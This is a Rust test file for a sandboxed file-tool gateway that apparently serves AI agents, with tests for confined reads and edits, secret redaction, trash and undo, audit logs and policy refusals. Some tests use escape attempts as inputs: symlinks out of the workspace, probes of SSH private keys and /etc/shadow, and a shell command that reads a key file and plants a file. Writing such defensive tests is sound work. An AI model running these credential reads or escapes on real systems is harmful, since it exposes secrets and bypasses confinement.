//! The file tools: read, write, edit, glob, grep, ls, mkdir, mv, rm, cd, and their confined worker.
//!
//! Over 1,000 lines: one test per file tool behaviour and per refusal class, each
//! self-contained; split per tool (read/write/edit, tree operations, search) when it grows.

use crate::util::*;

sandbox_test!(
    fn fs_edit_keeps_crlf_bom_and_final_newline_and_undo_is_byte_exact() {
        let env = Env::new("fs-edit");
        let orig: &[u8] = b"\xEF\xBB\xBFfn main() {\r\n    println!(\"a\");\r\n}";
        let p = env.ws.join("m.rs");
        std::fs::write(&p, orig).expect("w");
        let o = env.gw(&[
            "fs",
            "edit",
            "m.rs",
            "--old",
            "println!(\"a\");",
            "--new",
            "let x = 1;\n    println!(\"{x}\");",
            "--diff",
        ]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(
            stdout(&o).contains("+    println!(\"{x}\");"),
            "{}",
            text(&o)
        );
        assert_eq!(
            std::fs::read(&p).expect("r"),
            b"\xEF\xBB\xBFfn main() {\r\n    let x = 1;\r\n    println!(\"{x}\");\r\n}"
        );
        let o = env.gw(&["fs", "edit", "m.rs", "--append", "// end"]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(std::fs::read(&p).expect("r").ends_with(b"}\r\n// end"));
        // Two undos restore the original bytes exactly.
        assert!(env.gw(&["undo"]).status.success());
        assert!(env.gw(&["undo"]).status.success());
        assert_eq!(std::fs::read(&p).expect("r"), orig);
        let o = env.gw(&["history", "--json"]);
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(v["changes"].as_array().expect("a").len(), 4);
    }
);

sandbox_test!(
    fn fs_edit_refuses_ambiguous_missing_and_binary_leaving_the_file_untouched() {
        let env = Env::new("fs-refuse");
        let p = env.write("c.txt", "x = 1\ny = 2\nx = 1\n");
        let before = std::fs::read(&p).expect("r");
        let o = env.gw(&["fs", "edit", "c.txt", "--old", "x = 1", "--new", "x = 3"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(
            stderr(&o).contains("occurs 2 times (lines 1, 3)"),
            "{}",
            text(&o)
        );
        let o = env.gw(&["fs", "edit", "c.txt", "--old", "x =  1", "--new", "x = 3"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("not found"), "{}", text(&o));
        assert_eq!(std::fs::read(&p).expect("r"), before);
        let o = env.gw(&[
            "fs",
            "edit",
            "c.txt",
            "--old",
            "x = 1",
            "--new",
            "x = 3",
            "--all",
            "--dry-run",
        ]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(stdout(&o).contains("-x = 1\n+x = 3"), "{}", text(&o));
        assert_eq!(
            std::fs::read(&p).expect("r"),
            before,
            "dry run changed the file"
        );
        std::fs::write(env.ws.join("b.bin"), b"\x7fELF\0\0\x01").expect("w");
        let o = env.gw(&["fs", "read", "b.bin"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("binary file"), "{}", text(&o));
        assert!(
            env.gw(&["fs", "read", "b.bin", "--binary"])
                .status
                .success()
        );
        std::fs::write(env.ws.join("l1.txt"), b"caf\xe9\n").expect("w");
        let o = env.gw(&["fs", "edit", "l1.txt", "--append", "x"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("not UTF-8"), "{}", text(&o));
        assert_eq!(
            std::fs::read(env.ws.join("l1.txt")).expect("r"),
            b"caf\xe9\n"
        );
    }
);

sandbox_test!(
    fn fs_read_numbers_lines_and_redacts_secrets() {
        let env = Env::new("fs-read");
        let tok = gh_token(50);
        env.write("r.txt", &format!("one\ntwo\ntoken = {tok}\nfour\n"));
        let o = env.gw(&[
            "fs", "read", "r.txt", "--offset", "2", "--limit", "2", "--json",
        ]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(!stdout(&o).contains(&tok));
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(v["output"]["lines"][0], serde_json::json!([2, "two"]));
        assert_eq!(
            v["output"]["lines"][1],
            serde_json::json!([3, "token = [REDACTED:github-pat]"])
        );
        assert_eq!(v["output"]["total_lines"], 4);
        assert_eq!(v["output"]["truncated"], true);
    }
);

sandbox_test!(
    fn fs_tools_refuse_escapes() {
        let env = Env::new("fs-escape");
        std::fs::write(env.outside.join("s"), "OUT").expect("w");
        std::os::unix::fs::symlink(&env.outside, env.ws.join("link-dir")).expect("ln");
        std::os::unix::fs::symlink(env.outside.join("s"), env.ws.join("link-file")).expect("ln");
        std::fs::hard_link(env.outside.join("s"), env.ws.join("hard")).expect("ln");
        std::os::unix::fs::symlink("/proc/self/root/etc/hostname", env.ws.join("proc"))
            .expect("ln");
        let outside = env.outside.join("s").display().to_string();
        // A new file outside (no hard link to trip on): the host's /tmp is not the file tools'.
        let outside_new = env.outside.join("new").display().to_string();
        for args in [
            vec!["fs", "write", outside_new.as_str(), "--content", "x"],
            vec!["fs", "mkdir", outside_new.as_str()],
            vec!["fs", "write", "../outside/s", "--content", "x"],
            vec!["fs", "write", outside.as_str(), "--content", "x"],
            vec!["fs", "write", "link-dir/s", "--content", "x"],
            vec!["fs", "write", "link-file", "--content", "x"],
            vec!["fs", "write", "hard", "--content", "x"],
            vec!["fs", "edit", "link-file", "--append", "x"],
            vec!["fs", "write", "proc", "--content", "x"],
        ] {
            let o = env.gw(&args);
            // Policy refusals (outside the roots, leading out): exit 120 (issue 23; was 122).
            assert_eq!(o.status.code(), Some(120), "{args:?}: {}", text(&o));
            assert!(stderr(&o).contains("refused"), "{args:?}: {}", text(&o));
        }
        assert_eq!(
            std::fs::read_to_string(env.outside.join("s")).expect("r"),
            "OUT"
        );
        // Reading through a link out of the workspace, or the state directory, is refused too.
        let o = env.gw(&["fs", "read", "link-dir/s", "--policy", "strict"]);
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert!(!stdout(&o).contains("OUT"));
        let log = env.state.join("audit/log.jsonl").display().to_string();
        let o = env.gw(&["fs", "read", &log]);
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        // Every call is in the audit log.
        let o = env.gw(&[
            "log", "query", "--tool", "fs.write", "--json", "--limit", "0",
        ]);
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(v["records"].as_array().expect("a").len(), 7);
        assert!(!env.outside.join("new").exists());
    }
);

sandbox_test!(
    fn fs_write_survives_sigkill_at_random_moments_and_the_journal_recovers() {
        let env = Env::new("fs-crash");
        let p = env.ws.join("big.txt");
        let a = "a".repeat(4 << 20);
        let b = "b".repeat(4 << 20);
        std::fs::write(&p, &a).expect("w");
        let src_a = env.root.join("a");
        let src_b = env.root.join("b");
        std::fs::write(&src_a, &a).expect("w");
        std::fs::write(&src_b, &b).expect("w");
        let mut killed = 0;
        for i in 0..120u64 {
            let src = if i % 2 == 0 { &src_b } else { &src_a };
            let mut c = env
                .cmd()
                .args(["fs", "write", "big.txt", "--content-file"])
                .arg(src)
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .expect("spawn");
            // A pseudo-random moment in the first ~40 ms.
            std::thread::sleep(std::time::Duration::from_micros((i * 7919) % 40_000));
            if c.try_wait().expect("wait").is_none() {
                let _ = c.kill();
                killed += 1;
            }
            let _ = c.wait();
            let now = std::fs::read(&p).expect("read");
            assert!(
                now == a.as_bytes() || now == b.as_bytes(),
                "torn file after trial {i}"
            );
        }
        assert!(killed > 10, "only {killed} writes were interrupted");
        // The next change recovers the journal: nothing stays pending.
        let o = env.gw(&["fs", "write", "other.txt", "--content", "x"]);
        assert!(o.status.success(), "{}", text(&o));
        let o = env.gw(&["history", "--json", "--limit", "0"]);
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        let pending = v["changes"]
            .as_array()
            .expect("a")
            .iter()
            .filter(|c| c["phase"] == "pending")
            .count();
        assert_eq!(pending, 0, "{v}");
        // A big.txt change was pending only if a kill hit between intent and commit; its
        // temporary files are gone either way once big.txt is written again.
        assert!(
            env.gw(&["fs", "edit", "big.txt", "--append", "z"])
                .status
                .success()
        );
        let leftovers: Vec<_> = std::fs::read_dir(&env.ws)
            .expect("ls")
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.contains("gateway-tmp"))
            .collect();
        assert!(leftovers.is_empty(), "{leftovers:?}");
        let now = std::fs::read(&p).expect("read");
        assert!(now.starts_with(b"aaaa") || now.starts_with(b"bbbb"));
        assert_eq!(now.len(), (4 << 20) + 2);
    }
);

sandbox_test!(
    fn fs_rm_mkdir_mv_go_through_trash_and_undo() {
        let env = Env::new("fs-tree");
        let ok = |args: &[&str]| {
            let o = env.gw(args);
            assert!(o.status.success(), "{args:?}: {}", text(&o));
            o
        };
        ok(&["fs", "mkdir", "-p", "d1/a/b"]);
        let o = env.gw(&["fs", "mkdir", "x/y"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("pass -p"), "{}", text(&o));
        ok(&["fs", "write", "d1/a/b/f.txt", "--content", "hi"]);
        let o = ok(&["fs", "ls", "d1/a/b"]);
        assert!(stdout(&o).contains("f.txt"), "{}", text(&o));
        ok(&["fs", "mv", "d1", "d2"]);
        assert!(env.ws.join("d2/a/b/f.txt").exists() && !env.ws.join("d1").exists());
        // Never over an existing file.
        env.write("other.txt", "keep");
        let o = env.gw(&["fs", "mv", "d2/a/b/f.txt", "other.txt"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert_eq!(
            std::fs::read_to_string(env.ws.join("other.txt")).expect("r"),
            "keep"
        );
        // rm: a directory needs -r; then it is in the trash, and undo brings it back.
        let o = env.gw(&["fs", "rm", "d2"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        ok(&["fs", "rm", "-r", "d2"]);
        assert!(!env.ws.join("d2").exists());
        let o = ok(&["trash", "list", "--json"]);
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(v["items"][0]["name"], "d2");
        assert!(
            v["items"][0]["original"]
                .as_str()
                .expect("o")
                .ends_with("/ws/d2")
        );
        let info =
            std::fs::read_to_string(env.state.join("trash/info/d2.trashinfo")).expect("info");
        assert!(
            info.starts_with("[Trash Info]\nPath=/") && info.contains("DeletionDate="),
            "{info}"
        );
        ok(&["undo"]);
        assert_eq!(
            std::fs::read_to_string(env.ws.join("d2/a/b/f.txt")).expect("r"),
            "hi"
        );
        ok(&["undo"]); // the move
        assert!(env.ws.join("d1/a/b/f.txt").exists() && !env.ws.join("d2").exists());
        // A file removed, restored by name.
        ok(&["fs", "rm", "d1/a/b/f.txt"]);
        assert!(!env.ws.join("d1/a/b/f.txt").exists());
        ok(&["trash", "restore", "f.txt"]);
        assert_eq!(
            std::fs::read_to_string(env.ws.join("d1/a/b/f.txt")).expect("r"),
            "hi"
        );
        // rm outside the workspace or of the workspace's protected paths is refused.
        std::fs::write(env.outside.join("o"), "O").expect("w");
        let o = env.gw(&["fs", "rm", env.outside.join("o").to_str().expect("utf-8")]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        assert!(env.outside.join("o").exists());
        // Emptying the trash removes items for good.
        ok(&["fs", "rm", "other.txt"]);
        // (permanent removal: a policy whose rules allow `purge`)
        let o = ok(&["--policy", "permissive", "trash", "empty", "--yes"]);
        assert!(stdout(&o).contains("removed 1 item"), "{}", text(&o));
        let o = env.gw(&["undo"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("emptied"), "{}", text(&o));
        let o = ok(&["log", "query", "--json", "--limit", "0"]);
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        let tools: Vec<&str> = v["records"]
            .as_array()
            .expect("a")
            .iter()
            .filter_map(|r| r["tool"].as_str())
            .collect();
        for t in [
            "fs.mkdir",
            "fs.mv",
            "fs.rm",
            "fs.ls",
            "undo",
            "trash.restore",
        ] {
            assert!(tools.contains(&t), "{t} not audited: {tools:?}");
        }
    }
);

sandbox_test!(
    fn fs_glob_and_grep_honour_gitignore_redact_and_stay_inside() {
        let env = Env::new("fs-search");
        let tok = gh_token(60);
        std::fs::create_dir_all(env.ws.join(".git")).expect("git");
        env.write(".gitignore", "build/\n");
        env.write("src/main.rs", "fn main() {\n    run();\n}\n");
        env.write(
            "src/lib.rs",
            &format!("pub fn run() {{}}\nconst T: &str = \"{tok}\";\n"),
        );
        env.write("build/gen.rs", "fn run() {}\n");
        std::fs::write(env.outside.join("x.rs"), "fn run() {}\n").expect("w");
        std::os::unix::fs::symlink(&env.outside, env.ws.join("src/out")).expect("ln");
        let o = env.gw(&["fs", "glob", "*.rs"]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(stdout(&o), "src/lib.rs\nsrc/main.rs\n");
        let o = env.gw(&["fs", "grep", "run", "-C", "1"]);
        assert!(o.status.success(), "{}", text(&o));
        let out = stdout(&o);
        assert!(out.contains("src/main.rs:2:    run();"), "{out}");
        assert!(out.contains("src/main.rs-1-fn main() {"), "{out}");
        assert!(!out.contains("build/") && !out.contains("out/"), "{out}");
        let o = env.gw(&["fs", "grep", "const T", "--json"]);
        assert!(!stdout(&o).contains(&tok), "{}", text(&o));
        assert!(stdout(&o).contains("[REDACTED:github-pat]"), "{}", text(&o));
        let o = env.gw(&["fs", "grep", "RUN", "-i", "--mode", "count"]);
        assert_eq!(stdout(&o), "src/lib.rs:1\nsrc/main.rs:1\n", "{}", text(&o));
        // Under strict, nothing outside the workspace (and system trees) is readable; standard
        // reads `/` minus credentials, as its commands do.
        let outside = env.outside.to_str().expect("utf-8");
        let o = env.gw(&["--policy", "strict", "fs", "grep", "run", "--path", outside]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        let o = env.gw(&[
            "--policy", "strict", "fs", "glob", "*.rs", "--path", outside,
        ]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        let o = env.gw(&[
            "--policy", "strict", "fs", "grep", "run", "--path", "src/out",
        ]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        let o = env.gw(&["--policy", "strict", "fs", "read", "src/out/x.rs"]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        let o = env.gw(&["fs", "grep", "(", "--path", "src"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
    }
);

sandbox_test!(
    fn fs_cd_is_a_per_session_virtual_cwd() {
        let env = Env::new("fs-cd");
        env.write("a/b/f.txt", "in b\n");
        let s = |args: &[&str]| {
            env.cmd()
                .env("GATEWAY_SESSION", "agent-1")
                .args(args)
                .output()
                .expect("run")
        };
        let o = s(&["fs", "cd", "a/b"]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(stdout(&o).trim().ends_with("/ws/a/b"), "{}", text(&o));
        let o = s(&["fs", "read", "f.txt"]);
        assert_eq!(stdout(&o), "in b\n", "{}", text(&o));
        let o = s(&["exec", "--policy", "standard", "--", "pwd"]);
        assert!(stdout(&o).trim().ends_with("/ws/a/b"), "{}", text(&o));
        assert!(s(&["fs", "cd", ".."]).status.success());
        let o = s(&["fs", "cd", "-"]);
        assert!(stdout(&o).trim().ends_with("/ws/a/b"), "{}", text(&o));
        // Another session, and the process itself, are not moved.
        let o = env
            .cmd()
            .env("GATEWAY_SESSION", "agent-2")
            .args(["fs", "read", "f.txt"])
            .output()
            .expect("run");
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        // Refused: a file, a missing dir, a directory the policy does not let tools read.
        for bad in ["f.txt", "nope"] {
            let o = s(&["fs", "cd", bad]);
            assert_eq!(o.status.code(), Some(122), "{bad}: {}", text(&o));
        }
        let o = s(&[
            "--policy",
            "strict",
            "fs",
            "cd",
            env.outside.to_str().expect("utf-8"),
        ]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        let o = s(&["fs", "cd", env.state.to_str().expect("utf-8")]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        let o = env.gw(&["fs", "cd", "a"]);
        assert_eq!(
            o.status.code(),
            Some(122),
            "without a session: {}",
            text(&o)
        );
    }
);

sandbox_test!(
    fn fs_tools_run_in_a_confined_worker_that_the_kernel_holds() {
        // `fs probe` makes the worker open paths with plain open(2), bypassing gateway's own
        // path checks: what it cannot open, landlock refused.
        let env = Env::new("fs-worker");
        std::fs::write(env.ws.join("in.txt"), "in").expect("w");
        std::fs::write(env.outside.join("out.txt"), "out").expect("w");
        std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir");
        std::fs::write(env.home.join(".ssh/id_ed25519"), "KEY").expect("w");
        // A change first: the state directory gets a journal, backups, a log and keys.
        let o = env.gw(&["fs", "write", "a.txt", "--content", "x"]);
        assert!(o.status.success(), "{}", text(&o));
        let state_files = [
            env.state.join("journal/journal.jsonl"),
            env.state.join("audit/log.jsonl"),
            env.state.join("keys/epoch-0.key"),
        ];
        for f in &state_files {
            assert!(f.exists(), "{} missing", f.display());
        }
        let denied = |r: &str, what: &str| {
            assert!(r.contains("Permission denied"), "{what}: {r}");
        };
        for policy in ["strict", "standard", "permissive"] {
            let (r, w, status) = probe(&env, policy, &env.ws.join("in.txt"));
            assert_eq!(
                (r.as_str(), w.as_str()),
                ("ok", "ok"),
                "{policy}: workspace"
            );
            for want in ["Seccomp: 2", "NoNewPrivs: 1", "CapEff: 0000000000000000"] {
                assert!(status.contains(want), "{policy}: {want} in {status}");
            }
            for f in &state_files {
                let (r, w, _) = probe(&env, policy, f);
                denied(&r, &format!("{policy}: read {}", f.display()));
                denied(&w, &format!("{policy}: append {}", f.display()));
            }
            let (r, _, _) = probe(&env, policy, &env.home.join(".ssh/id_ed25519"));
            denied(&r, &format!("{policy}: ~/.ssh"));
            let (r, _, _) = probe(&env, policy, Path::new("/etc/shadow"));
            denied(&r, &format!("{policy}: /etc/shadow"));
        }
        // strict reads nothing outside the workspace; standard reads it but writes only the
        // workspace.
        let (r, w, _) = probe(&env, "strict", &env.outside.join("out.txt"));
        denied(&r, "strict: read outside");
        denied(&w, "strict: append outside");
        let (r, w, _) = probe(&env, "standard", &env.outside.join("out.txt"));
        assert_eq!(r, "ok", "standard: read outside");
        denied(&w, "standard: append outside");
        assert_eq!(
            std::fs::read_to_string(env.outside.join("out.txt")).expect("r"),
            "out"
        );
        // Each file tool's record says how its worker was confined.
        let o = env.gw(&["log", "query", "--tool", "fs.write", "--json"]);
        let v = json_of(&o);
        let e = v["records"][0]["enforcement"]
            .as_str()
            .expect("enforcement");
        assert!(
            e.contains("landlock abi") && e.contains("seccomp true"),
            "{e}"
        );
        assert!(e.contains("caps dropped true"), "{e}");
        // A FIFO is refused at once (a plain open would block the worker).
        let st = Command::new("mkfifo")
            .arg(env.ws.join("pipe"))
            .status()
            .expect("mkfifo");
        assert!(st.success());
        let o = env.gw(&["fs", "read", "pipe"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("not a regular file"), "{}", text(&o));
    }
);

sandbox_test!(
    fn fs_rm_permanent_needs_a_policy_that_allows_it_and_a_confirmation_on_a_terminal() {
        let env = Env::new("fs-purge");
        std::fs::write(env.ws.join("f.txt"), "F").expect("w");
        // strict denies it; standard asks, and without a terminal nobody approves.
        let o = env.gw(&["--policy", "strict", "fs", "rm", "--permanent", "f.txt"]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        assert!(stderr(&o).contains("deny-purge"), "{}", text(&o));
        let o = env.gw(&["fs", "rm", "--permanent", "f.txt"]);
        assert_eq!(o.status.code(), Some(121), "{}", text(&o));
        assert!(env.ws.join("f.txt").exists());
        // On a terminal: standard's ask and permissive's confirmation, answered no, then yes.
        let (code, shown) = gw_on_tty(&env, &["fs", "rm", "--permanent", "f.txt"], "n");
        assert_eq!(code, 121, "{shown}");
        assert!(shown.contains("ask-purge"), "{shown}");
        assert!(env.ws.join("f.txt").exists());
        let (code, shown) = gw_on_tty(
            &env,
            &["--policy", "permissive", "fs", "rm", "--permanent", "f.txt"],
            "no",
        );
        assert_eq!(code, 121, "{shown}");
        assert!(shown.contains("not confirmed"), "{shown}");
        assert!(env.ws.join("f.txt").exists());
        let (code, shown) = gw_on_tty(&env, &["fs", "rm", "--permanent", "f.txt"], "y");
        assert_eq!(code, 0, "{shown}");
        assert!(!env.ws.join("f.txt").exists());
        // Permissive without a terminal: the policy's allow stands. A tree goes with -r
        // only, and a symbolic link in it is removed, never followed.
        std::fs::create_dir_all(env.ws.join("d/e")).expect("mkdir");
        std::fs::write(env.ws.join("d/e/g.txt"), "G").expect("w");
        std::fs::write(env.outside.join("keep.txt"), "K").expect("w");
        std::os::unix::fs::symlink(&env.outside, env.ws.join("d/out")).expect("ln");
        let o = env.gw(&["--policy", "permissive", "fs", "rm", "--permanent", "d"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        let o = env.gw(&[
            "--policy",
            "permissive",
            "fs",
            "rm",
            "-r",
            "--permanent",
            "d",
        ]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(stderr(&o).contains("cannot be undone"), "{}", text(&o));
        assert!(!env.ws.join("d").exists());
        assert_eq!(
            std::fs::read_to_string(env.outside.join("keep.txt")).expect("r"),
            "K"
        );
        // Nothing went to the trash; history shows it; undo says why it cannot help.
        let o = env.gw(&["trash", "list", "--json"]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(json_of(&o)["items"].as_array().map(Vec::len), Some(0));
        let o = env.gw(&["history", "--json"]);
        let v = json_of(&o);
        let last = v["changes"]
            .as_array()
            .expect("a")
            .last()
            .expect("one")
            .clone();
        assert_eq!(last["change"]["tool"], "fs.rm.permanent", "{v}");
        assert_eq!(last["phase"], "committed", "{v}");
        let o = env.gw(&["undo"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("cannot be undone"), "{}", text(&o));
        // Every attempt is in the audit log, with the answers.
        let o = env.gw(&[
            "log",
            "query",
            "--tool",
            "fs.rm.permanent",
            "--json",
            "--limit",
            "0",
        ]);
        let v = json_of(&o);
        let recs = v["records"].as_array().expect("a");
        assert_eq!(recs.len(), 7, "{v}");
        assert!(recs.iter().any(|r| r["approved"] == false));
        assert!(recs.iter().any(|r| r["approved"] == true));
    }
);

sandbox_test!(
    fn fs_rm_refuses_a_tree_holding_a_denied_or_protected_path() {
        let env = Env::new("fs-rm-guarded");
        std::fs::create_dir_all(env.ws.join("sub/.git/hooks")).expect("mkdir");
        std::fs::write(env.ws.join("sub/.env"), "TOKEN=1").expect("w");
        let policy = env.root.join("p.toml");
        std::fs::write(
            &policy,
            "extends = \"permissive\"\n[sandbox]\ndeny = [\"${WORKSPACE}/sub/.env\"]\n",
        )
        .expect("policy");
        let p = policy.to_str().expect("utf-8");
        for args in [
            vec!["--policy", p, "fs", "rm", "-r", "sub"],
            vec!["--policy", p, "fs", "rm", "-r", "--permanent", "sub"],
        ] {
            let o = env.gw(&args);
            // A policy refusal: exit 120, like an exec denial (issue 23; was 122).
            assert_eq!(o.status.code(), Some(120), "{args:?}: {}", text(&o));
            assert!(
                stderr(&o).contains("which the policy protects"),
                "{}",
                text(&o)
            );
        }
        assert_eq!(
            std::fs::read_to_string(env.ws.join("sub/.env")).expect("r"),
            "TOKEN=1"
        );
    }
);

sandbox_test!(
    fn fs_edits_keep_the_owner_and_mode_though_the_worker_has_no_capabilities() {
        use std::os::unix::fs::{MetadataExt, PermissionsExt};
        let env = Env::new("fs-owner");
        let p = env.ws.join("owned.txt");
        std::fs::write(&p, "one\n").expect("w");
        std::os::unix::fs::chown(&p, Some(4321), Some(4322)).expect("chown (tests run as root)");
        // Readable by others: the worker (uid 0, no capabilities) may replace it; a file
        // it could not read is refused, as a confined command would find it.
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o640)).expect("chmod");
        let o = env.gw(&["fs", "edit", "owned.txt", "--old", "one", "--new", "two"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("Permission denied"), "{}", text(&o));
        assert_eq!(std::fs::read_to_string(&p).expect("r"), "one\n");
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).expect("chmod");
        let check = |what: &str| {
            let m = std::fs::metadata(&p).expect("m");
            assert_eq!((m.uid(), m.gid()), (4321, 4322), "{what}: owner");
            assert_eq!(m.mode() & 0o7777, 0o644, "{what}: mode");
        };
        let o = env.gw(&["fs", "edit", "owned.txt", "--old", "one", "--new", "two"]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(std::fs::read_to_string(&p).expect("r"), "two\n");
        check("edit");
        let o = env.gw(&["fs", "write", "owned.txt", "--content", "three\n"]);
        assert!(o.status.success(), "{}", text(&o));
        check("write");
        let o = env.gw(&["undo"]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(std::fs::read_to_string(&p).expect("r"), "two\n");
        check("undo");
    }
);

sandbox_test!(
    fn fs_tools_honour_the_policys_file_size_limit() {
        let env = Env::new("fs-max");
        std::fs::write(env.ws.join("big.txt"), "x".repeat(100)).expect("w");
        std::fs::write(env.ws.join("small.txt"), "tiny\n").expect("w");
        let policy = env.root.join("p.toml");
        std::fs::write(
            &policy,
            "extends = \"standard\"\n[files]\nmax_size = \"64B\"\n",
        )
        .expect("policy");
        let p = policy.to_str().expect("utf-8");
        for args in [
            vec!["--policy", p, "fs", "read", "big.txt"],
            vec!["--policy", p, "fs", "edit", "big.txt", "--append", "y"],
        ] {
            let o = env.gw(&args);
            // A policy refusal: exit 120, like an exec denial (issue 23; was 122).
            assert_eq!(o.status.code(), Some(120), "{args:?}: {}", text(&o));
            assert!(stderr(&o).contains("max_size"), "{}", text(&o));
        }
        assert_eq!(
            std::fs::read_to_string(env.ws.join("big.txt")).expect("r"),
            "x".repeat(100)
        );
        let o = env.gw(&["--policy", p, "fs", "read", "small.txt"]);
        assert!(o.status.success(), "{}", text(&o));
        // A bad size is a policy error with its position.
        std::fs::write(
            &policy,
            "extends = \"standard\"\n[files]\nmax_size = \"lots\"\n",
        )
        .expect("policy");
        let o = env.gw(&["--policy", p, "fs", "read", "small.txt"]);
        assert_eq!(o.status.code(), Some(123), "{}", text(&o));
        assert!(stderr(&o).contains("p.toml:3:"), "{}", text(&o));
    }
);

/// A session's one-shot call (`GATEWAY_SESSION`), as root or as uid 65534.
fn in_session(env: &Env, nobody: bool, args: &[&str]) -> Output {
    env.as_user(nobody)
        .env("GATEWAY_SESSION", "agent-1")
        .args(args)
        .output()
        .expect("run gateway")
}

sandbox_test! {
    fn session_cd_moves_relative_paths_never_the_writable_area() {
        // Issue 14 item 1: `cd` out of the workspace, then a relative write (file tool and
        // command) must not land where the session moved to. As root and as uid 65534.
        for nobody in [false, true] {
            let env = Env::new("cd-writable");
            if nobody {
                env.give_to_nobody();
            }
            let out = env.outside.to_str().expect("utf-8");
            let o = in_session(&env, nobody, &["fs", "cd", out]);
            assert!(o.status.success(), "cd: {}", text(&o));
            let o = in_session(&env, nobody, &["fs", "mkdir", "bin"]);
            assert_ne!(o.status.code(), Some(0), "mkdir outside: {}", text(&o));
            let o = in_session(&env, nobody, &["fs", "write", "ls", "--content", "#!/bin/sh\n"]);
            assert_ne!(o.status.code(), Some(0), "write outside: {}", text(&o));
            let o = in_session(&env, nobody, &["exec", "--", "sh", "-c", "pwd; echo x > planted"]);
            assert!(stdout(&o).contains("/outside"), "the command starts there: {}", text(&o));
            assert!(!env.outside.join("ls").exists(), "nobody={nobody}");
            assert!(!env.outside.join("bin").exists(), "nobody={nobody}");
            assert!(!env.outside.join("planted").exists(), "nobody={nobody}: {}", text(&o));
            // The workspace the session started in stays writable, by relative path too.
            let o = in_session(&env, nobody, &["exec", "--", "sh", "-c", "echo y > ../ws/kept"]);
            assert_eq!(o.status.code(), Some(0), "{}", text(&o));
            assert!(env.ws.join("kept").exists(), "nobody={nobody}: {}", text(&o));
            let o = in_session(&env, nobody, &["fs", "write", "../ws/kept2", "--content", "k"]);
            assert_eq!(o.status.code(), Some(0), "{}", text(&o));
            assert!(env.ws.join("kept2").exists());
        }
    }
}

sandbox_test! {
    fn cd_into_a_directory_refused_as_workspace_leaves_the_session_working() {
        // Issue 14 item 2: `cd ~` (a home holding ~/.ssh) bricked every later call, `cd`
        // back included. Now it moves the base of relative paths only.
        let env = Env::new("cd-home");
        std::fs::create_dir_all(env.home.join(".ssh")).expect("ssh");
        std::fs::write(env.home.join(".ssh/id_ed25519"), "KEY").expect("key");
        let o = in_session(&env, false, &["fs", "cd", "~"]);
        assert!(o.status.success(), "cd ~: {}", text(&o));
        let o = in_session(&env, false, &["exec", "--", "sh", "-c", "echo alive"]);
        assert_eq!(o.status.code(), Some(0), "after cd ~: {}", text(&o));
        assert_eq!(stdout(&o), "alive\n");
        // Still no key, no write to the home.
        let o = in_session(&env, false, &["exec", "--", "sh", "-c", "cat .ssh/id_ed25519; echo x > planted"]);
        assert!(!stdout(&o).contains("KEY"), "{}", text(&o));
        assert!(!env.home.join("planted").exists());
        let o = in_session(&env, false, &["fs", "read", ".ssh/id_ed25519"]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        let ws = env.ws.to_str().expect("utf-8");
        let o = in_session(&env, false, &["fs", "cd", ws]);
        assert!(o.status.success(), "cd back: {}", text(&o));
        let o = in_session(&env, false, &["fs", "write", "f", "--content", "ok"]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    }
}

/// A file tool call with `--json`: exit code, and the deciding rules.
fn fs_json(env: &Env, policy: &str, args: &[&str]) -> (Option<i32>, Vec<String>, String) {
    let mut c = env.cmd();
    c.args(["--json", "--policy", policy, "fs"]).args(args);
    let o = c.output().expect("run");
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap_or_default();
    let rules = v["decision"]["rules"]
